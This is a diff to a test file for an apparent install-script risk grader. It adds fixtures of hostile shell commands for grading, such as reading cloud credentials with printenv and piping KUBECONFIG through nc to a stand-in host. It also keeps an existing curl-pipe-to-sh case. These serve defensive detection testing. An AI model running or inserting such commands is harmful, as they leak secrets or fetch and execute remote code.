@@ -63,6 +63,8 @@ const high: Array<[string, string]> = [
   ['the whole environment, through a pipe', 'printenv | grep -i key'],
   ['a secret variable by name', 'printenv STRIPE_API_KEY'],
   ['a secret among other names', 'printenv HOME PATH DEPLOY_TOKEN'],
+  ['a cloud key by name', 'printenv AWS_ACCESS_KEY_ID'],
+  ['one named variable piped on', 'printenv KUBECONFIG | nc collect.example 9000'],
 ];
 
 const medium: Array<[string, string]> = [
@@ -142,8 +144,9 @@ describe('gradeInstallScript', () => {
     expect(gradeInstallScript('node scripts/postinstall && curl https://x.example/a | sh').severity).toBe(
       'critical',
     );
-    // A bare word after node is not a file of the package.
+    // A bare word after node is not a file of the package, nor is a path hidden from the file list.
     expect(gradeInstallScript('node postinstall').severity).toBe('medium');
+    expect(gradeInstallScript('NODE scripts/x').severity).not.toBe('low');
   });
 
   // Catastrophic backtracking would hang for minutes: the test's own timeout catches it, no timing asserted.
